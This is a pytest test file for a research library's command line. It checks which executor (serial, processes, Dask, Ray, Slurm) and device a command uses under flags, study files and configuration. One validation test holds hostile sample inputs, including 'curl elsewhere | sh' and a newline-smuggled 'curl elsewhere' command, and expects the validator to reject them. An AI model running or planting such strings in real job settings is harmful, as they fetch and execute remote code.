"""Who says where cells are computed: the command line, a study file, the configuration, in turn."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import quorate as library
from quorate import spec
from quorate.catalog import CATALOG
from quorate.executors.dask import Dask
from quorate.executors.executor import Executor
from quorate.executors.processes import Processes
from quorate.executors.ray import Ray
from quorate.executors.serial import Serial
from quorate.executors.slurm import Slurm
from quorate.findings.experiment import read_experiment
from quorate.findings.kinds.listing import kind_of
from quorate.membership_inference.study import MEASURE, MembershipStudy
from quorate.runs.store import Store
from quorate.studies.study import KEYS, read_study
from quorate.studies.trial import stored_outcomes
from quorate.test_time.study.correction import Correction
from quorate.test_time.study.settings import read_correction

METHODS = [
    *("--population", "gaussian:n=100,held_out=50"),
    *("--strategy", "planting:signal=columns,core=3"),
    *("--learner", "sgd:epochs=1,model=logistic"),
]
FILES = {  # of every kind
    "study": "population = 'digits:n=200'\nstrategy = 'planting'\nlearner = 'sgd'",
    "correction": "population = 'digits:n=200'\nsubgroup = 'blur'\nplatform = 'mlp'\nmembers = 5",
    "query costs": (
        "population = 'digits:n=200'\nsubgroup = 'blur'\nplatform = 'mlp'\nmembers = 5\n"
        "attacks = ['square']"
    ),
    "membership": (
        f"measure = '{MEASURE}'\npopulation = 'digits:n=200'\nstrategy = 'planting'\n"
        "learner = 'sgd'"
    ),
    "scenario": "scenario = 'navigation'\nnetwork = 'grid'",
}
LONG = {  # every long command, and what it calls with an executor
    "curve": (["curve", *METHODS, "--out", "o"], "studies.sweep.run_study"),
    "run": (["run", "study.toml"], "findings.running.run_experiment"),
    "critical-mass": (
        ["critical-mass", *METHODS],
        "studies.critical_mass.search.find_critical_mass",
    ),
    "scenario": (["scenario", "navigation"], "scenarios.scenario.run_scenario"),
    "plan": (
        ["plan", "m.csv", "--label", "y", "--platform-size", "100", "--target", "1"],
        "planning.plan.make_plan",
    ),
    "audit": (["audit", "tree", "digits:n=90"], "auditing.running.run_audit"),
    "audit-privacy": (
        ["audit-privacy", *METHODS[:2], *METHODS[4:]],
        "membership_inference.audit.run_audit",
    ),
    "correct": (["correct", "--file", "correction.toml"], "test_time.study.running.run_correction"),
    "compare-queries": (["compare-queries", "o"], "test_time.study.query_comparison.compare"),
    "demo": (["demo"], "studies.sweep.run_study"),
}

Ask = Callable[..., tuple[Executor, str | None]]


class AskedError(Exception):
    """A command has come to where its work begins."""


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder that commands are run in, with a file of each kind and a configuration."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("QUORATE_CONFIG", "config.toml")
    (tmp_path / "config.toml").write_text("")
    for name, text in FILES.items():
        (tmp_path / f"{name}.toml").write_text(text)
    return tmp_path


@pytest.fixture
def ask(quorate: Any, monkeypatch: pytest.MonkeyPatch) -> Ask:
    """A function that returns the executor and the device that a command comes to."""

    def run(command: str, *more: str) -> tuple[Executor, str | None]:
        words, place = LONG[command]

        def begin(*given: Any, **named: Any) -> None:
            (executor,) = (one for one in given if isinstance(one, Executor))
            devices = [one for one in given if one in ("auto", "cpu", "cuda")]
            raise AskedError(executor, devices[0] if devices else None)

        monkeypatch.setattr(f"quorate.{place}", begin)
        with pytest.raises(AskedError) as caught:
            quorate(*words, *more)
        executor, device = caught.value.args
        return executor, device

    return run


def configure(text: str) -> None:
    Path("config.toml").write_text(text)


# ------------------------------------------------------------------------------- every long command


@pytest.mark.parametrize("command", LONG)
def test_every_long_command_obeys_the_configuration(command: str, ask: Ask) -> None:
    configure("executor = 'slurm:workers=64'\ndevice = 'cpu'\n[executors.slurm]\npartition = 'a'")
    device = None if command == "compare-queries" else "cpu"
    assert ask(command) == (Slurm(64, partition="a"), device)
    assert ask(command, "--executor", "slurm:workers=8") == (Slurm(8, partition="a"), device)
    assert ask(command, "--jobs", "1") == (Serial(), device)
    assert ask(command, "--jobs", "3") == (Processes(3), device)
    if device is not None:
        assert ask(command, "--device", "auto") == (Slurm(64, partition="a"), "auto")


@pytest.mark.parametrize("command", LONG)
def test_two_answers_to_one_question_are_refused(command: str, quorate: Any) -> None:
    code, out, err = quorate(*LONG[command][0], "--jobs", "1", "--executor", "processes")
    assert (code, out) == (2, "")
    assert err == (
        "Error: Expected either jobs or an executor, got jobs=1 and 'processes'. Leave out jobs: "
        "an executor says itself how many workers it has, as in processes:workers=4.\n"
    )


def test_without_a_configuration_commands_compute_here(
    ask: Ask, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert ask("curve") == (Serial(), "auto")
    monkeypatch.setattr("os.cpu_count", lambda: 3)
    assert ask("demo") == (Processes(3), "auto")
    configure("jobs = 2")
    assert ask("curve") == ask("demo") == (Processes(2), "auto")
    configure("jobs = 1")
    assert ask("demo") == (Serial(), "auto")


def test_a_mistake_in_the_configuration_stops_what_computes_alone(quorate: Any) -> None:
    configure("job = 4")
    said = (
        "Error: Expected a known key of the configuration, got 'job'. Did you mean jobs? Known: "
        "device, executor, executors, jobs. This came from the configuration file config.toml.\n"
    )
    assert quorate("curve", *METHODS, "--out", "o", "--json") == (2, "", said)
    assert not Path("o").exists()
    assert quorate("config") == (2, "", said)
    assert quorate("list", "executors")[0] == 0
    assert "job" not in quorate("show", "nothing")[2]


# ------------------------------------------------------------------------------------- a study file


@pytest.mark.parametrize("kind", FILES)
def test_a_file_of_any_kind_may_name_its_executor(kind: str, quorate: Any, ask: Ask) -> None:
    plain = read_experiment(f"{kind}.toml")
    Path("study.toml").write_text(f"device = 'cpu'\nexecutor = 'slurm:workers=9'\n{FILES[kind]}")
    named = read_experiment("study.toml")
    assert (named.settings, named.id) == (plain.settings, plain.id)
    assert kind_of(named.settings).read(named.settings) is not None
    configure("executor = 'dask'\n[executors.slurm]\naccount = 'abc'")
    assert ask("run") == (Slurm(9, account="abc"), "cpu")
    assert ask("run", "--jobs", "2", "--device", "cuda") == (Processes(2), "cuda")
    assert ask("run", "--executor", "dask:workers=3") == (Dask(workers=3), "cpu")


def test_what_a_file_leaves_open_the_configuration_says(ask: Ask) -> None:
    configure("executor = 'slurm'\ndevice = 'cpu'")
    assert ask("run") == (Slurm(), "cpu")
    Path("study.toml").write_text(f"jobs = 2\n{FILES['study']}")
    assert ask("run") == (Processes(2), "cpu")
    Path("study.toml").write_text(f"device = 'auto'\n{FILES['study']}\n[quick]\njobs = 1\nseeds=1")
    assert ask("run") == (Slurm(), "auto")
    assert ask("run", "--quick") == (Serial(), "auto")
    Path("study.toml").write_text(
        f"executor = 'dask'\n{FILES['study']}\n[quick]\njobs = 2\nseeds=1"
    )
    assert ask("run") == (Dask(), "cpu")
    assert ask("run", "--quick") == (Processes(2), "cpu")


def test_readers_of_files_leave_the_executor_aside() -> None:
    plain, correction = read_study("study.toml"), read_correction("correction.toml")
    for name in ("study", "correction"):
        Path("a.toml").write_text(f"executor = 'serial'\ndevice = 'cpu'\n{FILES[name]}")
        Path(f"{name}.toml").write_text(Path("a.toml").read_text())
    assert read_study("study.toml") == plain
    assert read_study("study.toml").describe() == plain.describe()
    assert read_correction("correction.toml") == correction


def test_correct_obeys_the_file_that_it_reads(ask: Ask) -> None:
    Path("correction.toml").write_text(f"jobs = 2\n{FILES['correction']}")
    assert ask("correct") == (Processes(2), "auto")
    assert ask("correct", "--jobs", "1") == (Serial(), "auto")


def test_python_runs_a_file_as_it_says(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Any] = []
    monkeypatch.setattr(
        "quorate.findings.running.run_experiment", lambda *given: asked.append(given[2:4])
    )
    configure("executor = 'dask'\ndevice = 'cuda'")
    library.run("study.toml")
    Path("study.toml").write_text(f"executor = 'slurm:workers=9'\n{FILES['study']}")
    library.run("study.toml", device="cpu")
    library.run("study.toml", jobs=2)
    library.run("study.toml", executor=Serial())
    assert asked == [
        (Serial(), "auto"),
        (Slurm(9), "cpu"),
        (Processes(2), "auto"),
        (Serial(), "auto"),
    ]


def test_where_cells_are_computed_is_not_stored() -> None:
    study = (
        "population = 'gaussian:n=100,held_out=50'\nstrategy = 'planting:signal=columns,core=3'\n"
        "learner = 'naive-bayes'\nalphas = [0.3]\nseeds = 1\n"
    )
    Path("study.toml").write_text(f"executor = 'serial'\ndevice = 'cpu'\n{study}")
    library.run("study.toml", "o")
    with Store("o") as store:
        first, described = stored_outcomes(store), store.studies()
    Path("study.toml").write_text(study)
    library.run("study.toml", "o")
    with Store("o") as store:
        assert stored_outcomes(store) == first
        assert store.studies() == described
    assert len(first) == 2
    assert len(described) == 1
    assert "serial" not in str(described)


def test_a_file_may_name_the_ray_cluster_that_its_reader_belongs_to(ask: Ask) -> None:
    study = FILES["study"]
    Path("study.toml").write_text(f"executor = 'ray:address=auto,workers=3'\n{study}")
    assert ask("run") == (Ray(address="auto", workers=3), "auto")


def test_nothing_that_a_file_runs_has_a_parameter_of_such_a_name() -> None:
    own = {*KEYS, *Correction.__dataclass_fields__, *MembershipStudy.__dataclass_fields__}
    for cls in CATALOG["scenarios"].values():
        own |= set(spec.parameters(cls))
    assert {"population", "members", "share"} <= own
    assert not own & {"executor", "jobs", "device"}


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("executor = 'slrum'", "Expected a known executor, got 'slrum'. Did you mean slurm? "),
        ("executor = 4", "Expected executor to be text, got 4."),
        ("executor = 'slurm:workers=0'", "Expected workers=0 to be at least 1. "),
        ("executor = 'serial'\njobs = 2", "Expected either jobs or an executor, got jobs=2 and 's"),
        ("jobs = 0", "Expected jobs=0 to be at least 1. "),
        ("jobs = [2]", "Expected jobs to be a whole number, got [2]. "),
        ("device = 'gpu'", "Expected a known device, got 'gpu'. "),
        (
            "executor = 'dask:address=tcp://elsewhere:1'",
            "Expected a study file to say how much its executor is to have (workers, partition, "
            "time, memory, cores, gpus, per_job, patience), got address. Whoever wrote a file does "
            "not decide where it is computed: name address yourself, with --executor or in the "
            "table [executors.dask] of your configuration. This came from study.toml.\n",
        ),
        ("executor = 'dask:scheduler_file=a.json'", "have (workers, partition, time, memory"),
        ("executor = 'ray:address=ray://elsewhere:1'", "patience), got address. "),
        ("executor = 'slurm:setup=\"curl elsewhere | sh\"'", "patience), got setup. "),
        ("executor = 'slurm:python=./own'", "patience), got python. "),
        ("executor = 'slurm:options=--output=a'", "patience), got options. "),
        ("executor = 'slurm:folder=/etc'", "patience), got folder. "),
        ("executor = 'slurm:interface=eth0'", "patience), got interface. "),
        ("executor = 'slurm:account=theirs'", "patience), got account. "),
        (
            'executor = "slurm:partition=a\\ncurl elsewhere"',
            "Expected partition in one line, got 'a\\ncurl elsewhere'. ",
        ),
        (
            "executor = {name = 'slurm', time = '1 --output=a'}",
            "Expected time of the executor in a "
            "study file to be letters, digits and signs of _.,:- alone, got '1 --output=a'. ",
        ),
        ("executor = {name = 'slurm', memory = ['1GB']}", "Expected memory to be text, got ['1GB"),
    ],
)
def test_what_a_file_cannot_say_is_refused_before_anything_runs(
    line: str, said: str, quorate: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    Path("study.toml").write_text(f"{line}\n{FILES['study']}")
    monkeypatch.setattr("quorate.findings.running.run_experiment", None)
    code, out, err = quorate("run", "study.toml", "--json")
    assert (code, out) == (2, "")
    assert err.startswith("Error: Expected ")
    assert said in err
    assert err.endswith(" This came from study.toml.\n")
    assert err.count("\n") == 1
    assert not Path("runs").exists()


# ----------------------------------------------------------------------------------- quorate config


def test_config_says_where_the_file_would_be_and_shows_one(
    quorate: Any, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("QUORATE_CONFIG")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder))
    monkeypatch.setenv("XDG_CACHE_HOME", str(folder))
    monkeypatch.delenv("QUORATE_CACHE")
    monkeypatch.delenv("QUORATE_DATA", raising=False)
    code, out, err = quorate("config")
    assert (code, err) == (0, "")
    head, _, example = out.partition("\nAn example of such a file:\n\n")
    assert head == (
        f"Configuration file: {folder}/quorate/config.toml (there is none)\n"
        "\n"
        "  executor  serial  (default)\n"
        "  device    auto  (default)\n"
        "  data      none  (default)\n"
        f"  cache     {folder}/quorate  (XDG_CACHE_HOME)\n"
    )
    assert example.startswith('executor = "slurm:workers=64"')
    (folder / "quorate").mkdir()
    (folder / "quorate" / "config.toml").write_text(example)
    shown = json.loads(quorate("config", "--json")[1])
    assert shown["is_there"] is True
    assert shown["values"]["executors.ray.address"] == {"value": "auto", "from": "file"}


def test_config_says_what_holds_and_who_says_it(
    quorate: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("QUORATE_DATA", "/data")
    monkeypatch.setenv("QUORATE_CACHE", "/cache")
    configure(
        "executor = 'slurm:workers=64'\n[executors.slurm]\nworkers = 2\npartition = 'cpu'\n"
        "options = '--qos=short -x a'"
    )
    code, out, err = quorate("config")
    assert (code, err) == (0, "")
    assert out == (
        "Configuration file: config.toml, as QUORATE_CONFIG says\n"
        "\n"
        "  executor                   "
        "slurm:workers=64,partition=cpu,options=--qos=short -x a  (file)\n"
        "  device                     auto  (default)\n"
        "  executors.slurm.workers    2  (file)\n"
        "  executors.slurm.partition  cpu  (file)\n"
        "  executors.slurm.options    --qos=short -x a  (file)\n"
        "  data                       /data  (QUORATE_DATA)\n"
        "  cache                      /cache  (QUORATE_CACHE)\n"
    )
    shown = json.loads(quorate("config", "--json")[1])
    assert (shown["file"], shown["is_there"]) == ("config.toml", True)
    assert shown["values"]["executors.slurm.options"] == {
        "value": "--qos=short -x a",
        "from": "file",
    }
    assert shown["values"]["data"] == {"value": "/data", "from": "QUORATE_DATA"}
    configure("jobs = 4\ndevice = 'cpu'")
    shown = json.loads(quorate("config", "--json")[1])["values"]
    assert shown["executor"] == {"value": "processes:workers=4", "from": "file"}
    assert shown["jobs"] == {"value": 4, "from": "file"}
    assert shown["device"] == {"value": "cpu", "from": "file"}
